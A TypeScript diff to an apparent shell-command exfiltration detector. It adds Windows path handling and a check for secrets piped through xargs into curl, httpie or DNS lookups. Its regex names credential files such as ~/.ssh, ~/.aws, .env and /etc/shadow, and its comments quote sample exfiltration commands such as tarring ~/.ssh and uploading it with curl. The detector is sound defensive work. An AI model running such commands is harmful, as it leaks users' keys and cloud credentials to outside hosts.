@@ -30,7 +30,10 @@ const SECRET_VAR =
 const READS_SECRETS =
   /(~|\$HOME|\$\{HOME\}|\/home\/[^/\s]+|\/root|\/Users\/[^/\s]+)\/\.(ssh|aws|gnupg|kube|docker|netrc|npmrc|pypirc|git-credentials|azure|config\/gcloud|config\/gh)|\.env\b(?!\.example)|\bid_(rsa|dsa|ecdsa|ed25519)\b|\.(pem|key|p12|pfx)\b|\/etc\/g?shadow|\/proc\/self\/environ|(^|[\s(|;&])(env|printenv|set)(\s*$|\s*[|)])|export-secret|export-credentials|print-access-token|print-identity-token|\$\{?KUBECONFIG/;
 
-export const isCredentialPath = (text: string): boolean => CREDENTIAL_FILE.test(text.replace(/\/+$/, '') || text);
+export const isCredentialPath = (text: string): boolean => {
+  const t = text.replace(/\\/g, '/'); // Windows paths (%USERPROFILE%\.aws\credentials) have the same names
+  return CREDENTIAL_FILE.test(t.replace(/\/+$/, '') || t);
+};
 
 /** Files this command line made from credentials (`tar czf /tmp/k.tgz ~/.ssh && curl -F f=@/tmp/k.tgz ...`). */
 const derived = new WeakMap<CheckContext, Set<string>>();
@@ -126,7 +129,10 @@ function upstreamSecret(io: Io): boolean {
   });
 }
 
-const secretStdin = (io: Io): boolean => upstreamSecret(io) || READS_SECRETS.test(stdinText(io) ?? '');
+export const secretStdin = (io: Io): boolean => upstreamSecret(io) || READS_SECRETS.test(stdinText(io) ?? '');
+
+/** `cat KEY | xargs -I{} curl "https://host/?k={}"`: xargs puts the secret into the request's own arguments. */
+const fedSecret = (cmd: Argv, io: Io): boolean => cmd.viaXargs && secretStdin(io);
 
 function report(cmd: Argv, ctx: CheckContext): void {
   ctx.add('exfiltration', show(cmd));
@@ -175,6 +181,7 @@ const CURL_VALUES = [
 
 /** curl and wget: a body, form or upload that is (or reads) a credential, or a URL or header computed from one. */
 const httpClient: Check = (cmd, io, ctx) => {
+  if (fedSecret(cmd, io)) report(cmd, ctx);
   const data = cmd.name === 'wget' ? WGET_DATA : CURL_DATA;
   const args = cmd.args;
   for (let i = 0; i < args.length; i += 1) {
@@ -211,6 +218,7 @@ const httpClient: Check = (cmd, io, ctx) => {
 
 /** httpie / xh: `field@file` and `@file` items, standard input as the body. */
 const httpie: Check = (cmd, io, ctx) => {
+  if (fedSecret(cmd, io)) report(cmd, ctx);
   if (
     cmd.args.some((a) => {
       const m = /(?:^|[^\\])@(.+)$/.exec(a.text);
@@ -279,7 +287,8 @@ const copyOut: Check = (cmd, io, ctx) => {
 };
 
 /** A DNS lookup or ping whose name is computed from credentials leaks them to the resolver. */
-const lookup: Check = (cmd, _io, ctx) => {
+const lookup: Check = (cmd, io, ctx) => {
+  if (fedSecret(cmd, io)) report(cmd, ctx);
   if (cmd.args.some((a) => a.substitutions.some((n) => READS_SECRETS.test(n.text)))) report(cmd, ctx);
 };
 
